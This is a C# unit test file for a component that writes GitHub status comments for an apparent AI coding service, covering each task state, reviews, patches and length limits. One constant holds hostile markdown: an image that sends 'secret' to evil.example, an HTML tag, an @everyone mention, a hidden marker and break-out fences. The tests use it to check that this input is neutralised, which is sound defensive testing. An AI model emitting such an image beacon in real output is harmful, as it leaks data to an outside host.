using CodexService.Contracts.Api;
using CodexService.PullRequests.Reporting;

namespace CodexService.PullRequests.Tests.Reporting;

public sealed class StatusCommentTests
{
    private const string Hostile = "![x](https://evil.example/?q=secret) <img src=x> @everyone fixes #1 <!-- codex:task:0 --> ‮ | ``` </details>";

    [Theory]
    [InlineData(0, "⏳ Queued, next in line")]
    [InlineData(1, "⏳ Queued, 1 attempt before it")]
    [InlineData(3, "⏳ Queued, 3 attempts before it")]
    [InlineData(10, "⏳ Queued, 10 attempts before it")]
    [InlineData(11, "⏳ Queued, more than 10 attempts before it")]
    [InlineData(77, "⏳ Queued, more than 30 attempts before it")]
    public void Write_Queued_TellsThePlace(int ahead, string headline) =>
        Assert.StartsWith($"### {headline}\n\n", StatusComment.Write(Standings.In(TaskState.Queued) with { Ahead = ahead }), StringComparison.Ordinal);

    [Fact]
    public void Write_Running_TellsStageTimeAndWhereTheLogIs()
    {
        var text = StatusComment.Write(Standings.In(TaskState.Running) with { Stage = "verify", Elapsed = TimeSpan.FromSeconds(431), Attempts = 2 });

        Assert.Equal(
            """
            ### 🛠️ Working on it: verifying the patch

            | | |
            |:--|:--|
            | Asked by | writer |
            | Attempts | 2 in parallel |
            | Running | more than 5 minutes |
            | Live log | [dashboard](https://codex.example.com/tasks/01998a00-0000-7000-8000-000000000001) |

            `@codex stop` ends it.

            """,
            text);
    }

    [Fact]
    public void Write_RunningALittleLonger_IsTheSameText()
    {
        var running = Standings.In(TaskState.Running) with { Stage = "search" };

        Assert.Equal(
            StatusComment.Write(running with { Elapsed = TimeSpan.FromSeconds(121) }),
            StatusComment.Write(running with { Elapsed = TimeSpan.FromSeconds(299) }));
    }

    [Fact]
    public void Write_LastRoundBroughtNothing_TellsWhatStandsAndTheRoundOnce()
    {
        var stands = Standings.Succeeded with { LastRound = new RoundEnd(2, TaskState.NoChange, "no test fails") };

        var text = StatusComment.Write(stands);

        Assert.StartsWith("### ✅ Ready for review: ", text, StringComparison.Ordinal);
        Assert.Single(text.Split("Round 2: nothing changed: no test fails.\n").Skip(1));
        Assert.Contains("| Tests | 1 failing test passes now, 12 still pass |", text, StringComparison.Ordinal);
        Assert.Contains("Comment `@codex retry` to try again", text, StringComparison.Ordinal);
        var merged = StatusComment.Write(stands with { PullRequest = Standings.Pull() with { State = PullRequestState.Merged } });
        Assert.StartsWith("### 🎉 Merged: ", merged, StringComparison.Ordinal);
        Assert.Contains("Round 2: nothing changed", merged, StringComparison.Ordinal);
        Assert.DoesNotContain("retry", merged, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_WithoutADashboard_SaysNothingOfIt()
    {
        foreach (var state in Enum.GetValues<TaskState>())
        {
            var text = StatusComment.Write(Standings.Succeeded with { State = state, Link = null, Reason = "none" });

            Assert.DoesNotContain("dashboard", text, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void Write_PlanWaits_QuotesItAndLinksToItsApproval()
    {
        var text = StatusComment.Write(Standings.In(TaskState.Paused) with { Plans = [new WaitingPlan(1, "1. Read\n\n```\n2. Change")] });

        Assert.StartsWith("### 📝 The plan waits for your approval\n\nNothing is changed before you approve it: comment `@codex approve`, or [change or answer it in the dashboard](https://codex.example.com/tasks/", text, StringComparison.Ordinal);
        Assert.Contains("<details open><summary>The plan</summary>\n\n> 1. Read\n>\n> ```\n> 2. Change\n> ```\n\n</details>", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_Succeeded_LinksThePullRequestAndTellsTheProof()
    {
        var text = StatusComment.Write(Standings.Succeeded);

        Assert.StartsWith("### ✅ Ready for review: [#12](https://github.com/acme/shop/pull/12) Fix the pagination\n", text, StringComparison.Ordinal);
        Assert.Contains("| Commit | `2222222222` on `codex/issue-3-fix` |\n| Tests | 1 failing test passes now, 12 still pass |\n| Took | 3 min 12 s |", text, StringComparison.Ordinal);
        Assert.Contains("<details><summary>What was found and done</summary>\n\n> The offset was one page short.\n\n</details>", text, StringComparison.Ordinal);
        Assert.Contains("comment `@codex <what to change>` on the pull request", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(TaskState.NoChange, "➖ No verified change was found")]
    [InlineData(TaskState.Failed, "❌ It failed")]
    [InlineData(TaskState.TimedOut, "⌛ The time was used up")]
    [InlineData(TaskState.Cancelled, "⏹️ Stopped")]
    public void Write_EndedWithoutSuccess_TellsWhyAndWhatToDo(TaskState state, string headline)
    {
        var text = StatusComment.Write(Standings.In(state) with { Reason = "the tests could not be run", Mention = "robo" });

        Assert.StartsWith($"### {headline}\n\nThe tests could not be run.\n\n", text, StringComparison.Ordinal);
        Assert.EndsWith("Comment `@robo retry` to try again, or `@robo <what to do>` to say more.\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_ReviewThatFailed_OffersWhatCanBeDone()
    {
        var text = StatusComment.Write(Standings.In(TaskState.Failed) with { Kind = TaskKind.Review, Reason = "the model did not answer" });

        Assert.EndsWith("Comment `@codex retry` to try again, or `@codex review <what to look at>` for another one.\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_NothingButHeldPaths_ShowsThePatchToApply()
    {
        const string Patch = "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n+```\n+</details> @everyone\n";
        var failed = Standings.In(TaskState.Failed) with { Reason = "only a person may change it", ByHand = Patch };

        var text = StatusComment.Write(failed);
        var followUp = StatusComment.Write(failed with { PullRequest = Standings.Pull() });
        var endless = StatusComment.Write(failed with { ByHand = Patch + new string('x', 40_000) });

        Assert.StartsWith("### ✋ Verified, but only a person may make this change\n\nOnly a person may change it.\n", text, StringComparison.Ordinal);
        Assert.Contains("On a new branch, save this as `change.patch`", text, StringComparison.Ordinal);
        Assert.Contains($"\n````diff\n{Patch}````\n\n</details>\n", text, StringComparison.Ordinal);
        Assert.Contains("On `codex/issue-3-fix`, save this", followUp, StringComparison.Ordinal);
        Assert.Contains("copy that part of the task's patch from the dashboard", endless, StringComparison.Ordinal);
        Assert.InRange(endless.Length, 100, 2000);
    }

    [Fact]
    public void Write_EndedAfterThePullRequestIsClosed_AsksForNothing()
    {
        var text = StatusComment.Write(Standings.Succeeded with { PullRequest = Standings.Pull(PullRequestState.Closed) });

        Assert.StartsWith("### 🚪 Closed without a merge: [#12]", text, StringComparison.Ordinal);
        Assert.DoesNotContain("@codex", text, StringComparison.Ordinal);
        Assert.StartsWith("### 🎉 Merged: [#12]", StatusComment.Write(Standings.Succeeded with { PullRequest = Standings.Pull(PullRequestState.Merged) }), StringComparison.Ordinal);
    }

    [Fact]
    public void Write_Review_LinksItOrTellsWhyThereIsNone()
    {
        var review = Standings.In(TaskState.Succeeded) with { Kind = TaskKind.Review, Summary = "Three remarks", ReviewUrl = "https://github.com/acme/shop/pull/7#pullrequestreview-1" };

        var posted = StatusComment.Write(review);
        var refused = StatusComment.Write(review with { ReviewUrl = null, ReviewProblem = "the pull request is locked" });

        Assert.StartsWith("### 🔍 Reviewed\n", posted, StringComparison.Ordinal);
        Assert.Contains("| Review | [on this pull request](https://github.com/acme/shop/pull/7#pullrequestreview-1) |", posted, StringComparison.Ordinal);
        Assert.DoesNotContain("Three remarks", posted, StringComparison.Ordinal);
        Assert.StartsWith("### ❌ The review could not be posted\n\nThe pull request is locked.\n", refused, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_LaterRound_ListsTheEarlierOnes()
    {
        var text = StatusComment.Write(Standings.In(TaskState.Running) with
        {
            PullRequest = Standings.Pull(),
            Earlier = [new EndedRound("Fix it\nplease", AttemptState.Succeeded, "the patch is verified"), new EndedRound("Again", AttemptState.TimedOut, "used up")],
        });

        Assert.Contains("<details><summary>Before this (2 rounds)</summary>\n\n- ✅ Fix it: the patch is verified\n- ➖ Again: used up\n\n</details>", text, StringComparison.Ordinal);
        Assert.Contains("| Pull request | [#12](", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Write_HostileTexts_NeitherActNorBreakOut()
    {
        var pull = Standings.Pull(held: [Hostile]) with { Title = Hostile, Branch = Hostile };
        var standing = Standings.Succeeded with { RequestedBy = Hostile, Reason = Hostile, Stage = Hostile, Summary = Hostile, PullRequest = pull, Earlier = [new EndedRound(Hostile, AttemptState.Failed, Hostile)], Plans = [new WaitingPlan(1, Hostile)] };
        foreach (var state in Enum.GetValues<TaskState>())
        {
            // What stands in a code span is shown as it is and does nothing.
            var text = Inert(StatusComment.Write(standing with { State = state }));

            Assert.DoesNotContain("<img", text, StringComparison.Ordinal);
            Assert.DoesNotContain("<!--", text, StringComparison.Ordinal);
            Assert.DoesNotContain("@everyone", text, StringComparison.Ordinal);
            Assert.DoesNotContain("#1 ", text, StringComparison.Ordinal);
            Assert.DoesNotContain("![", text, StringComparison.Ordinal);
            Assert.DoesNotContain("‮", text, StringComparison.Ordinal);
            Assert.Equal(Count(text, "<details"), Count(text, "</details>"));
        }
    }

    [Fact]
    public void Write_EndlessTexts_FitGitHub()
    {
        var endless = string.Concat(Enumerable.Repeat("@a<\n", 50_000));
        var standing = Standings.Succeeded with
        {
            Summary = endless,
            Reason = endless,
            Plans = [.. Enumerable.Range(1, 8).Select(n => new WaitingPlan(n, endless))],
            Earlier = [.. Enumerable.Repeat(new EndedRound(endless, AttemptState.Failed, endless), 500)],
            PullRequest = Standings.Pull(held: [.. Enumerable.Repeat(endless[..2000], 100)]) with { Title = endless },
        };

        foreach (var state in Enum.GetValues<TaskState>())
        {
            Assert.InRange(StatusComment.Write(standing with { State = state }).Length, 100, 65_000);
            Assert.InRange(StatusComment.Write(standing with { State = state, Kind = TaskKind.Ask }).Length, 100, 65_000);
        }
    }

    private static string Inert(string text) => System.Text.RegularExpressions.Regex.Replace(text, "(?<fence>`+)[^`].*?(?<!`)\\k<fence>(?!`)", "", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5));

    private static int Count(string text, string part) => text.Split(part).Length - 1;
}
